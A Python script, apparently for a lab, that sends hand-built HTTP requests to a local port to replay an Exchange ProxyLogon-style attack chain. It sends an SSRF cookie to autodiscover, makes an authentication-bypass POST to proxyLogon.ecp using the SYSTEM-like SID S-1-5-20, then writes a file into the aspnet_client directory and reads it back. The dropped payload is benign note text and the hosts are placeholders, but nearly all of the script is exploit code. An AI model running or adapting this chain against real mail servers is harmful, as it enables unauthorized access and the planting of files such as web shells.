# ruff: noqa
"""Socket-level replay of the lab chain: every byte written by hand."""

import socket
import sys

CRLF = "\r\n"
UA = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"


def frame(method, target, headers, body=b""):
    lines = [f"{method} {target} HTTP/1.1", "Host: 127.0.0.1", "Accept-Encoding: identity"]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    lines += [f"{k}: {v}" for k, v in headers]
    return (CRLF.join(lines) + CRLF + CRLF).encode() + body


def exchange(port, raw):
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(raw)
        reply = b""
        while chunk := s.recv(1024):
            reply += chunk
    head, _, rest = reply.partition(b"\r\n\r\n")
    return int(head.split()[1]), rest


def browser():
    return [
        ("User-Agent", UA),
        ("x-requested-with", "XMLHttpRequest"),
        ("Accept", "*/*"),
        ("accept-language", "en-US,en;q=0.9"),
        ("connection", "close"),
    ]


port = int(sys.argv[1])
cookie = "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522"
path = (
    "/autodiscover/autodiscover.json?Pad="
    + "A" * 37
    + "&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720"
)
status, _ = exchange(port, frame("GET", path, browser() + [("cookie", cookie)]))
if status < 500:
    body = b'{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}'
    status, who = exchange(
        port,
        frame(
            "POST",
            "/ecp/proxyLogon.ecp",
            [
                ("user-agent", UA),
                ("msexchlogonmailbox", "S-1-5-20"),
                ("content-type", "application/json"),
                ("X-BEResource", "localhost@lab.invalid/ecp/proxyLogon.ecp"),
            ],
            body,
        ),
    )
    who = who.decode().strip() if status == 200 else "anonymous"
    spot = "/aspnet_client/system_web/readme_91453.txt"
    note = "\n".join(f"note {i} of 3 for {who}" for i in range(1, 4)).encode()
    exchange(
        port,
        frame(
            "POST",
            spot,
            [("user-agent", UA), ("X-Note-Path", spot), ("Content-Type", "text/plain")],
            note,
        ),
    )
    print(exchange(port, frame("GET", spot, browser()))[0])
